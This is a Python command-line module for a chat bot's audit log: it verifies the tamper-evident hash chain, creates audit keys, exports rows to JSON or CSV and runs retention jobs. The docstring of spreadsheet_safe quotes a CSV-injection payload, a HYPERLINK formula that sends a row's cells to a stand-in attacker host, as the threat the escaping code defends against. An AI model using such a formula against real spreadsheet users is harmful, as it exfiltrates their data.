"""``deptbot audit verify|export`` and ``deptbot retention run``: prove the audit log was
not edited, hand it to a SIEM in a form that verifies offline, and apply the retention
policy now. ``start_governance_jobs`` is what ``deptbot serve`` schedules daily."""

from __future__ import annotations

import argparse
import csv
import json
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Any, TextIO

from bot.cli.output import EXIT_ERROR, EXIT_OK, _err, _out, _printable
from bot.errors import UsageError
from bot.settings import Settings

if TYPE_CHECKING:
    from apscheduler.schedulers.background import BackgroundScheduler

    from bot.governance.chain import AuditKey, Report
    from bot.wiring import Wired


def _key_file(settings: Settings) -> Path:
    from bot.store.audit import DEFAULT_KEY_FILE

    configured = settings.values.audit.key_file.strip()
    return Path(configured).expanduser() if configured else settings.state_dir / DEFAULT_KEY_FILE


def _existing_key(settings: Settings) -> AuditKey:
    """The key rows were written with; never a new one (that would call every row forged)."""
    from bot.governance.chain import load_key

    return load_key(settings.env, _key_file(settings), create=False)


def _expect(text: str | None) -> tuple[int, str] | None:
    if not text:
        return None
    seq, _, mac = text.replace("seq=", "").replace(" mac=", ":").partition(":")
    try:
        if len(mac.strip()) != 64:
            raise ValueError
        int(mac.strip(), 16)
        return int(seq), mac.strip().lower()
    except ValueError:
        raise UsageError(
            f"--expect must be SEQ:MAC (64 hex digits), as verify prints it, not {text!r}."
        ) from None


def _show(rep: Report, what: str) -> int:
    if not rep.ok:
        where = f"row {rep.bad_seq}" if rep.bad_seq is not None else "the checkpoints"
        _err(f"{what} FAILED at {where} ({rep.kind}): {rep.problem}")
        if rep.rows:
            _err(f"{rep.rows:,} rows verified before it.")
        return EXIT_ERROR
    span = f" (rows {rep.first_seq}–{rep.head_seq})" if rep.rows else ""
    _out(f"{what} intact: {rep.rows + rep.legacy:,} rows, {rep.rows:,} verified{span}")
    if rep.legacy:
        _out(
            f"{rep.legacy:,} unchained legacy rows were written before the chain existed: counted, "
            "not verifiable; the chain starts after them"
        )
    _out(f"chain head: row {rep.head_seq}, MAC {rep.head_mac}")
    for note in rep.notes:
        _out(f"note: {note}")
    if rep.checkpoint is not None:
        _out(rep.checkpoint.line())
    return EXIT_OK


def cmd_audit_verify(args: argparse.Namespace, settings: Settings) -> int:
    from bot.governance.chain import Chain, verify_export

    if args.file:
        if args.expect:
            raise UsageError("--expect checks the audit database; leave it out with --file.")
        try:
            rep = verify_export(Chain(_existing_key(settings).secret), Path(args.file))
        except OSError:
            raise UsageError(f"Cannot read {args.file}.") from None
        except ValueError as exc:  # a line that is not an audit row: say which
            _err(f"export {args.file} FAILED: {exc}")
            return EXIT_ERROR
        return _show(rep, f"export {args.file}")
    from bot.store.audit import ChainedAudit, SqliteAuditLog
    from bot.store.backend import database_for

    log: ChainedAudit
    db = database_for(settings)  # PostgreSQL with DEPTBOT_DATABASE_URL: the replicas' one chain
    if db is not None:
        from bot.store.pg_audit import PgAuditLog

        log = PgAuditLog(db, home=settings.state_dir, key=_existing_key(settings))
    else:
        path = settings.state_dir / "audit.db"
        if not path.exists():
            _out(f"No audit log at {path} yet: nothing to verify.")
            return EXIT_OK
        log = SqliteAuditLog(path=path, key=_existing_key(settings))
    try:
        return _show(log.verify(expect=_expect(args.expect)), "audit chain")
    finally:
        log.close()


def cmd_audit_init_key(args: argparse.Namespace, settings: Settings) -> int:
    """Make the audit key once, for every replica of a PostgreSQL installation (they must
    share it; a replica never makes its own). Never overwrites a key: rows chained with it
    would all read as forged."""
    import os
    import secrets

    from bot.governance.chain import ENV_VAR, KEY_BYTES, SETTING

    key = secrets.token_hex(KEY_BYTES)
    if args.print:
        _out(key)
        _err(f"Set it as {ENV_VAR} on every replica (the same value everywhere).")
        return EXIT_OK
    if settings.env.get(ENV_VAR, "").strip():
        raise UsageError(f"{ENV_VAR} is set: that is the audit key in use; no file is needed.")
    target = _key_file(settings)
    if target.exists():
        raise UsageError(f"{target} already exists; an audit key is never overwritten.")
    from bot.store.state import ensure_private_dir

    ensure_private_dir(target.parent)
    try:
        fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    except FileExistsError:
        raise UsageError(f"{target} already exists; an audit key is never overwritten.") from None
    with os.fdopen(fd, "w", encoding="ascii") as fh:
        fh.write(key + "\n")
    _out(f"Wrote a new audit key to {target} (0600).")
    _out(f"Give every replica this file ({SETTING}), or its contents as {ENV_VAR}.")
    return EXIT_OK


@contextmanager
def _target(out: str | None) -> Iterator[TextIO]:
    if not out:
        yield sys.stdout
        return
    with open(out, "w", encoding="utf-8", newline="") as fh:  # umask 077: 0600
        yield fh


def cmd_audit_export(args: argparse.Namespace, settings: Settings) -> int:
    from bot.wiring import open_audit_log

    try:
        since = date.fromisoformat(args.since) if args.since else None
    except ValueError:
        raise UsageError(f"--since must be a date like 2026-11-01, not {args.since!r}.") from None
    from bot.store.backend import database_url

    path = settings.state_dir / "audit.db"
    if database_url(settings.env) is None and not path.exists():
        _err(f"No audit log at {path} yet.")
        return EXIT_OK
    log = open_audit_log(settings)
    count = 0
    tty = not args.out and sys.stdout.isatty()
    try:
        with _target(args.out) as fh:
            rows = log.export_rows(since=since, with_text=args.with_text)
            if args.format == "csv":
                count = _csv(fh, rows, tty=tty)
            else:
                for row in rows:  # ASCII JSON: control characters escaped, bytes as they were
                    fh.write(json.dumps(row, ensure_ascii=True, separators=(",", ":")) + "\n")
                    count += 1
    finally:
        log.close()
    if args.out:
        _err(f"wrote {count:,} audit rows to {args.out}")
    return EXIT_OK


# A cell a spreadsheet runs as a formula when it opens the file (OWASP "CSV Injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_safe(value: object) -> object:
    """``value`` as a CSV cell that Excel, LibreOffice or Sheets show as text.

    Any chat user writes the question text, and an admin opens the export in a
    spreadsheet: ``=HYPERLINK("https://evil.example/?"&B2,"Open policy")`` would run there,
    sending the row's other cells away. Text starting with ``= + - @``, tab, CR or LF —
    also after leading blanks — gets a leading ``'``, which spreadsheets read as "this
    is text" and do not show (OWASP's list). Numbers stay numbers; JSON lines, the format
    that verifies offline, are never changed."""
    if not isinstance(value, str) or not value:
        return value
    if value.lstrip(" \u00a0\u3000").startswith(_FORMULA_START):
        return "'" + value
    return value


def _csv(fh: TextIO, rows: Iterator[dict[str, Any]], *, tty: bool) -> int:
    """Every cell quoted (a ``;`` or ``,`` in a question cannot start a cell of its own in
    a spreadsheet that splits on it) and made spreadsheet-safe."""
    writer: Any = None
    count = 0
    for row in rows:
        if writer is None:
            writer = csv.DictWriter(fh, fieldnames=list(row), quoting=csv.QUOTE_ALL)
            writer.writeheader()
        cells = {k: _printable(v) for k, v in row.items()} if tty else row
        writer.writerow({k: spreadsheet_safe(v) for k, v in cells.items()})
        count += 1
    return count


def cmd_retention_run(args: argparse.Namespace, settings: Settings) -> int:
    from bot.governance.retention import Retention, describe, policy_from
    from bot.llm.factory import build_cache, open_usage_store
    from bot.store.state import ensure_private_dir
    from bot.wiring import old_copy_watch, open_audit_log, retention_stores

    ensure_private_dir(settings.state_dir)
    r = settings.values.retention
    audit = open_audit_log(settings)
    stores = retention_stores(
        settings, audit=audit, usage=open_usage_store(settings), cache=build_cache(settings)
    )
    job = Retention(stores=stores, policy=policy_from(r), audit=audit, batch=r.batch)
    out = job.run(dry_run=args.dry_run)
    for line in describe(out, dry_run=args.dry_run):
        _out(line)
    watch = None if args.dry_run else old_copy_watch(settings)
    if watch is not None:  # as the daily job does (``start_governance_jobs``), once
        watch()
    if any(o.failed for o in out):
        return EXIT_ERROR
    return EXIT_OK


def start_governance_jobs(settings: Settings, wired: Wired) -> BackgroundScheduler | None:
    """The daily retention run and chain-head checkpoint for ``deptbot serve`` (None when
    both are off)."""
    from bot.governance.retention import Retention, policy_from, start_daily
    from bot.wiring import old_copy_watch, retention_stores

    r = settings.values.retention
    policy = policy_from(r)
    retention = None
    if any(policy.values()):
        stores = retention_stores(settings, audit=wired.audit, usage=wired.usage, cache=wired.cache)
        retention = Retention(stores=stores, policy=policy, audit=wired.audit, batch=r.batch)
    checkpoint = wired.audit.checkpoint if settings.values.audit.checkpoint_log else None
    from bot.ops.locks import slot_claimer  # once per day across processes and replicas

    return start_daily(
        retention=retention,
        checkpoint=checkpoint,
        claim=slot_claimer(settings),
        old_copies=old_copy_watch(settings),  # once a day, its own slot
    )
